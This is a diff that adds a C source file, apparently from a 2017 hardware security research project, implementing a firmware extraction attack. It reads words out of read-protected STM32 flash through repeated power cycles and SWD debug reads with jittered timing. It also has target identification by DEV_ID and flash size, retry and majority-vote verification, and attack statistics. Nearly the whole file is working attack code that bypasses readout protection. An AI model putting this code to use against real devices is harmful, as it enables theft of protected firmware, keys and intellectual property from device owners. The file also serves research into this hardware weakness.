@@ -0,0 +1,573 @@
+/*
+ * Copyright (C) 2017 Obermaier Johannes
+ *
+ * This Source Code Form is subject to the terms of the MIT License.
+ * If a copy of the MIT License was not distributed with this file,
+ * you can obtain one at https://opensource.org/licenses/MIT
+ */
+
+#include <string.h>
+#include "main.h"
+#include "hal.h"
+#include "clk.h"
+#include "swd.h"
+#include "target.h"
+#include "extract.h"
+
+static extractPolicy_t extractPolicy = { MAX_READ_ATTEMPTS, DELAY_JITTER_MS_MIN, DELAY_JITTER_MS_MAX, DELAY_JITTER_MS_INCREMENT,
+		POWER_ON_SETTLE_MS, POWER_OFF_MS, EXTRACT_FAST_PATH, EXTRACT_VERIFY };
+static extractionStatistics_t extractionStatistics = {0u};
+static uint32_t extractionTimeUs = 0u;		/* below a millisecond, not yet in timeMs */
+
+#if EXTRACT_LOG_LEN > 0u
+#if (EXTRACT_LOG_LEN & (EXTRACT_LOG_LEN - 1u)) != 0u
+#error "EXTRACT_LOG_LEN must be a power of two"
+#endif
+
+static extractWordRecord_t extractLog[EXTRACT_LOG_LEN];
+static uint32_t extractLogCount = 0u;
+#endif
+
+/* Add some jitter on the moment of attack (may increase attack effectiveness) */
+static uint16_t delayJitter = DELAY_JITTER_MS_MIN;
+
+/* Fast path session: target powered, connected and running, the read of fastNext posted if fastPosted */
+static uint8_t fastSession = 0u;
+static uint8_t fastPosted = 0u;
+static uint32_t fastNext = 0u;
+static uint32_t fastRetry = 0u;		/* no fast path below this address, set by a faulted read */
+
+/* K matching reads: current K and words read without a mismatch since K last changed */
+static uint32_t verifyK = EXTRACT_VERIFY;
+static uint32_t verifyClean = 0u;
+
+/* DBGMCU_IDCODE of Cortex-M0/M0+ and of Cortex-M3/M4 parts, tried in this order */
+static uint32_t const probeDbgmcu[] = { 0x40015800u, 0xE0042000u };
+
+/* DEV_ID and address of the 16-bit flash size register (KB) */
+typedef struct {
+	uint16_t devId;
+	uint32_t flashSize;
+} extractDevice_t;
+
+static extractDevice_t const probeDevices[] = {
+	/* F0 */
+	{ 0x440u, 0x1FFFF7CCu }, { 0x442u, 0x1FFFF7CCu }, { 0x444u, 0x1FFFF7CCu }, { 0x445u, 0x1FFFF7CCu },
+	{ 0x448u, 0x1FFFF7CCu },
+	/* F1 */
+	{ 0x410u, 0x1FFFF7E0u }, { 0x412u, 0x1FFFF7E0u }, { 0x414u, 0x1FFFF7E0u }, { 0x418u, 0x1FFFF7E0u },
+	{ 0x420u, 0x1FFFF7E0u }, { 0x428u, 0x1FFFF7E0u }, { 0x430u, 0x1FFFF7E0u },
+	/* F3 */
+	{ 0x422u, 0x1FFFF7CCu }, { 0x432u, 0x1FFFF7CCu }, { 0x438u, 0x1FFFF7CCu }, { 0x439u, 0x1FFFF7CCu },
+	{ 0x446u, 0x1FFFF7CCu },
+	/* F2, F4 */
+	{ 0x411u, 0x1FFF7A22u }, { 0x413u, 0x1FFF7A22u }, { 0x419u, 0x1FFF7A22u }, { 0x421u, 0x1FFF7A22u },
+	{ 0x423u, 0x1FFF7A22u }, { 0x431u, 0x1FFF7A22u }, { 0x433u, 0x1FFF7A22u }, { 0x434u, 0x1FFF7A22u },
+	{ 0x441u, 0x1FFF7A22u }, { 0x458u, 0x1FFF7A22u }, { 0x463u, 0x1FFF7A22u },
+	/* L0 */
+	{ 0x417u, 0x1FF8007Cu }, { 0x425u, 0x1FF8007Cu }, { 0x447u, 0x1FF8007Cu }, { 0x457u, 0x1FF8007Cu },
+	/* G0 */
+	{ 0x460u, 0x1FFF75E0u }, { 0x466u, 0x1FFF75E0u }, { 0x467u, 0x1FFF75E0u }
+};
+
+#define PROBE_DBGMCU_NUM (sizeof(probeDbgmcu) / sizeof(probeDbgmcu[0]))
+#define PROBE_DEVICES_NUM (sizeof(probeDevices) / sizeof(probeDevices[0]))
+
+static void extractFastEnd( void );
+static swdStatus_t extractFastRead( uint32_t const address, uint32_t * const data );
+static swdStatus_t extractPlainRead( uint32_t const address, uint32_t * const data, uint32_t * const idcode );
+static swdStatus_t extractVerifyRdbuff( uint32_t const data );
+static void extractVerifyAdapt( uint8_t const mismatch );
+static swdStatus_t extractReadWord( uint32_t const address, uint32_t * const data, uint32_t * const attempts,
+		uint16_t * const attackDelay );
+
+
+/* NULL keeps the current policy, the delay walk restarts in both cases */
+void extractInit( extractPolicy_t const * const policy )
+{
+	if (policy != NULL)
+	{
+		extractPolicy = *policy;
+	}
+
+	delayJitter = extractPolicy.delayMin;
+	verifyK = extractPolicy.verify;
+	verifyClean = 0u;
+
+	return ;
+}
+
+
+void extractResetStatistics( void )
+{
+	memset( &extractionStatistics, 0x00u, sizeof(extractionStatistics) );
+	extractionTimeUs = 0u;
+#if EXTRACT_LOG_LEN > 0u
+	extractLogCount = 0u;
+#endif
+
+	return ;
+}
+
+
+extractionStatistics_t const * extractGetStatistics( void )
+{
+	return &extractionStatistics;
+}
+
+
+extractPolicy_t const * extractGetPolicy( void )
+{
+	return &extractPolicy;
+}
+
+
+/* Power cycles the target and reads its IDCODE, without an attack */
+swdStatus_t extractIdentify( uint32_t * const idcode )
+{
+	swdStatus_t dbgStatus = swdStatusNone;
+
+	targetSysOn();
+	waitms(extractPolicy.powerOnMs);
+
+	dbgStatus = swdConnect( idcode );
+
+	targetSysReset();
+	targetSysOff();
+	waitms(extractPolicy.powerOffMs);
+
+	return dbgStatus;
+}
+
+
+/* One plain read in its own power cycle, without the attack */
+static swdStatus_t extractPlainRead( uint32_t const address, uint32_t * const data, uint32_t * const idcode )
+{
+	swdStatus_t dbgStatus = swdStatusNone;
+
+	targetSysOn();
+	waitms(extractPolicy.powerOnMs);
+
+	dbgStatus = swdConnect( idcode );
+
+	if (likely(dbgStatus == swdStatusOk))
+	{
+		targetSysUnReset();
+		dbgStatus = swdReadAHBAddr( address, data );
+	}
+	else
+	{
+		*idcode = 0u;
+	}
+
+	targetSysReset();
+	targetSysOff();
+	waitms(extractPolicy.powerOffMs);
+
+	return dbgStatus;
+}
+
+
+/* Identifies an STM32 target: IDCODE, then DEV_ID by a plain read (DBGMCU is never protected),
+   then its flash size register by extractFlashData, through the fast path where it is readable.
+   Returns swdStatusNone for an unknown DEV_ID. The flash size read counts in the statistics. */
+swdStatus_t extractProbe( extractTarget_t * const target )
+{
+	swdStatus_t dbgStatus = swdStatusNone;
+	uint32_t flashSize = 0u;
+	uint32_t data = 0u;
+	uint32_t i = 0u;
+	uint32_t j = 0u;
+
+	memset( target, 0x00u, sizeof(*target) );
+	target->flashBase = EXTRACT_FLASH_BASE;
+
+	for (i = 0u; (i < PROBE_DBGMCU_NUM) && (flashSize == 0u); ++i)
+	{
+		dbgStatus = extractPlainRead( probeDbgmcu[i], &data, &(target->idcode) );
+
+		if (dbgStatus != swdStatusOk)
+		{
+			/* no target, or a fault at an address of the other core types */
+			if (target->idcode == 0u)
+			{
+				return dbgStatus;
+			}
+			continue;
+		}
+
+		target->devId = data & 0x0FFFu;
+
+		for (j = 0u; j < PROBE_DEVICES_NUM; ++j)
+		{
+			if (probeDevices[j].devId == target->devId)
+			{
+				flashSize = probeDevices[j].flashSize;
+			}
+		}
+	}
+
+	if (flashSize == 0u)
+	{
+		return swdStatusNone;
+	}
+
+	dbgStatus = extractFlashData( (flashSize & 0xFFFFFFFCu), &data );
+	extractFinish();
+
+	if (dbgStatus == swdStatusOk)
+	{
+		target->flashKb = (data >> ((flashSize & 0x02u) << 3u)) & 0xFFFFu;
+	}
+
+	return dbgStatus;
+}
+
+
+/* Returns the number of words logged since the extraction started. The last min(count,
+   EXTRACT_LOG_LEN) of them are in records, the oldest at index count % EXTRACT_LOG_LEN. */
+uint32_t extractLogGet( extractWordRecord_t const ** const records )
+{
+#if EXTRACT_LOG_LEN > 0u
+	*records = extractLog;
+
+	return extractLogCount;
+#else
+	*records = NULL;
+
+	return 0u;
+#endif
+}
+
+
+static void extractFastEnd( void )
+{
+	if (fastSession)
+	{
+		targetSysReset();
+		targetSysOff();
+		waitms(extractPolicy.powerOffMs);
+
+		fastSession = 0u;
+		fastPosted = 0u;
+	}
+
+	return ;
+}
+
+
+/* Plain sequential read without the attack, for memory the debugger may read (SRAM, peripherals,
+   unprotected flash). The session is opened by the first word and kept while the words follow in
+   address order. A failed read closes it, the rest of its TAR block is left to the attack. */
+static swdStatus_t extractFastRead( uint32_t const address, uint32_t * const data )
+{
+	swdStatus_t dbgStatus = swdStatusOk;
+	uint32_t idCode = 0u;
+
+	if (!fastSession)
+	{
+		targetSysOn();
+		waitms(extractPolicy.powerOnMs);
+		fastSession = 1u;
+
+		dbgStatus = swdConnect( &idCode );
+		targetSysUnReset();
+	}
+
+	if (likely(dbgStatus == swdStatusOk) && (!fastPosted || (address != fastNext)))
+	{
+		dbgStatus = swdReadAHBBegin( address );
+	}
+
+	if (likely(dbgStatus == swdStatusOk))
+	{
+		/* TAR wraps after the last word of its block */
+		if (((address + 4u) & (SWD_TAR_INC_BLOCK - 1u)) == 0u)
+		{
+			dbgStatus = swdReadAHBEnd( data );
+			fastPosted = 0u;
+		}
+		else
+		{
+			dbgStatus = swdReadAHBNext( data );
+			fastPosted = 1u;
+			fastNext = address + 4u;
+		}
+	}
+
+	if (dbgStatus != swdStatusOk)
+	{
+		extractFastEnd();
+		fastRetry = (address | (SWD_TAR_INC_BLOCK - 1u)) + 1u;
+	}
+
+	return dbgStatus;
+}
+
+
+/* Ends an extraction: powers the target off if a fast path session is open */
+void extractFinish( void )
+{
+	extractFastEnd();
+	fastRetry = 0u;
+
+	return ;
+}
+
+
+/* RDBUFF still holds the read just returned, a second transfer of it catches a corrupted one */
+static swdStatus_t extractVerifyRdbuff( uint32_t const data )
+{
+	uint32_t check = 0u;
+	swdStatus_t dbgStatus = swdReadAHBEnd( &check );
+
+	++(extractionStatistics.numVerifyReads);
+
+	if (likely(dbgStatus == swdStatusOk) && (check != data))
+	{
+		/* all transactions acknowledged, the attempt fails with swdStatusNone */
+		++(extractionStatistics.numVerifyMismatches);
+		dbgStatus = swdStatusNone;
+	}
+
+	return dbgStatus;
+}
+
+
+/* A mismatch raises K at once, EXTRACT_VERIFY_WINDOW clean words lower it again */
+static void extractVerifyAdapt( uint8_t const mismatch )
+{
+	if (mismatch)
+	{
+		verifyClean = 0u;
+		if (verifyK < EXTRACT_VERIFY_K_MAX)
+		{
+			++verifyK;
+		}
+	}
+	else if (++verifyClean >= EXTRACT_VERIFY_WINDOW)
+	{
+		verifyClean = 0u;
+		if (verifyK > extractPolicy.verify)
+		{
+			--verifyK;
+		}
+	}
+
+	return ;
+}
+
+
+/* One read of a word, by the fast path if enabled and the word can be read without the attack,
+   otherwise attacked until it is read or maxAttempts attempts failed. Adds the attempts to attempts */
+static swdStatus_t extractReadWord( uint32_t const address, uint32_t * const data, uint32_t * const attempts,
+		uint16_t * const attackDelay )
+{
+	swdStatus_t dbgStatus = swdStatusNone;
+	swdStatus_t failureAck = swdStatusNone;
+	swdPhase_t failurePhase = swdPhaseOther;
+
+	uint32_t extractedData = 0u;
+	uint32_t idCode = 0u;
+
+	/* Limit the maximum number of attempts PER WORD */
+	uint32_t numReadAttempts = 0u;
+
+
+	if (extractPolicy.fastPath && (address >= fastRetry))
+	{
+		dbgStatus = extractFastRead( address, &extractedData );
+	}
+
+	if (dbgStatus == swdStatusOk)
+	{
+		*data = extractedData;
+	}
+	else
+	{
+		extractFastEnd();
+
+		/* try up to MAX_READ_TRIES times until we have the data */
+		do
+		{
+			halPinWrite( GPIO_LED_GREEN, 0u, (0x01u << PIN_LED_GREEN) );
+			*attackDelay = delayJitter;
+
+			targetSysOn();
+
+			waitms(extractPolicy.powerOnMs);
+
+			dbgStatus = swdConnect( &idCode );
+
+			if (likely(dbgStatus == swdStatusOk))
+			{
+				targetSysUnReset();
+				waitms(delayJitter);
+
+				/* The magic happens here! */
+				dbgStatus = swdReadAHBAddr( address, &extractedData );
+
+				if ((extractPolicy.verify == EXTRACT_VERIFY_RDBUFF) && (dbgStatus == swdStatusOk))
+				{
+					dbgStatus = extractVerifyRdbuff( extractedData );
+				}
+			}
+
+			targetSysReset();
+			++(extractionStatistics.numAttempts);
+			++(*attempts);
+
+			/* Check whether readout was successful. Only if swdStatusOK is returned, extractedData is valid */
+			if (dbgStatus == swdStatusOk)
+			{
+				*data = extractedData;
+				++(extractionStatistics.numSuccess);
+				halPinWrite( GPIO_LED_GREEN, (0x01u << PIN_LED_GREEN), 0u );
+			}
+			else
+			{
+				++(extractionStatistics.numFailure);
+				++numReadAttempts;
+
+				failureAck = swdGetFailure( &failurePhase );
+				++(extractionStatistics.failurePhase[failurePhase]);
+				++(extractionStatistics.failureAck[(failureAck >> 5u) & 0x07u]);
+
+				delayJitter += extractPolicy.delayIncrement;
+				if (delayJitter >= extractPolicy.delayMax)
+				{
+					delayJitter = extractPolicy.delayMin;
+				}
+			}
+
+			targetSysOff();
+
+			waitms(extractPolicy.powerOffMs);
+		}
+		while ((dbgStatus != swdStatusOk) && (numReadAttempts < (extractPolicy.maxAttempts)));
+	}
+
+	return dbgStatus;
+}
+
+
+/* Reads one 32-bit word from read-protection Flash memory. Address must be 32-bit aligned.
+   With K matching reads (policy verify >= 2) the word is read until one value was read K times,
+   at most 2K - 1 times. Without such a majority it is given up with swdStatusNone */
+swdStatus_t extractFlashData( uint32_t const address, uint32_t * const data )
+{
+	swdStatus_t dbgStatus = swdStatusNone;
+
+	uint32_t extractedData = 0u;
+	uint32_t const startUs = halTimeUs();
+	uint32_t durationUs = 0u;
+	uint16_t attackDelay = 0u;
+
+	/* attack attempts of all reads, 0 if the fast path read the word */
+	uint32_t numReadAttempts = 0u;
+
+	/* distinct values read and their counts, the value read most often at best */
+	uint32_t const k = (extractPolicy.verify > EXTRACT_VERIFY_RDBUFF) ? verifyK : 1u;
+	uint32_t votes[(2u * EXTRACT_VERIFY_K_MAX) - 1u] = {0u};
+	uint32_t voteCount[(2u * EXTRACT_VERIFY_K_MAX) - 1u] = {0u};
+	uint32_t numVotes = 0u;
+	uint32_t numReads = 0u;
+	uint32_t best = 0u;
+	uint32_t i = 0u;
+
+
+	if ((k > 1u) && (k > extractionStatistics.verifyKMax))
+	{
+		extractionStatistics.verifyKMax = k;
+	}
+
+	do
+	{
+		dbgStatus = extractReadWord( (address & 0xFFFFFFFCu), &extractedData, &numReadAttempts, &attackDelay );
+
+		if (dbgStatus == swdStatusOk)
+		{
+			++numReads;
+
+			for (i = 0u; (i < numVotes) && (votes[i] != extractedData); ++i)
+			{
+			}
+
+			if (i == numVotes)
+			{
+				votes[i] = extractedData;
+				++numVotes;
+			}
+
+			++(voteCount[i]);
+			if (voteCount[i] > voteCount[best])
+			{
+				best = i;
+			}
+		}
+	}
+	while ((dbgStatus == swdStatusOk) && (voteCount[best] < k) && (numReads < ((2u * k) - 1u)));
+
+	if (numReads > 0u)
+	{
+		if (k > 1u)
+		{
+			extractionStatistics.numVerifyReads += numReads - 1u;
+			extractionStatistics.numVerifyMismatches += numReads - voteCount[best];
+			extractVerifyAdapt( numReads != voteCount[best] );
+		}
+
+		if (voteCount[best] < k)
+		{
+			dbgStatus = swdStatusNone;
+		}
+		else
+		{
+			*data = votes[best];
+		}
+	}
+
+	if (dbgStatus == swdStatusOk)
+	{
+		if (numReadAttempts == 0u)
+		{
+			++(extractionStatistics.numFastWords);
+		}
+		else
+		{
+			if ((extractionStatistics.wordAttemptsMin == 0u) || (numReadAttempts < extractionStatistics.wordAttemptsMin))
+			{
+				extractionStatistics.wordAttemptsMin = numReadAttempts;
+			}
+			if (numReadAttempts > extractionStatistics.wordAttemptsMax)
+			{
+				extractionStatistics.wordAttemptsMax = numReadAttempts;
+			}
+		}
+		++(extractionStatistics.numWords);
+	}
+
+	durationUs = halTimeUs() - startUs;
+	extractionTimeUs += durationUs;
+	extractionStatistics.timeMs += extractionTimeUs / 1000u;
+	extractionTimeUs %= 1000u;
+
+#if EXTRACT_LOG_LEN > 0u
+	{
+		extractWordRecord_t * const record = &extractLog[extractLogCount & (EXTRACT_LOG_LEN - 1u)];
+
+		record->address = address;
+		record->durationUs = durationUs;
+		record->attempts = numReadAttempts;
+		record->delay = attackDelay;
+		record->status = dbgStatus;
+		record->reserved = 0u;
+
+		++extractLogCount;
+	}
+#else
+	(void) attackDelay;
+#endif
+
+	return dbgStatus;
+}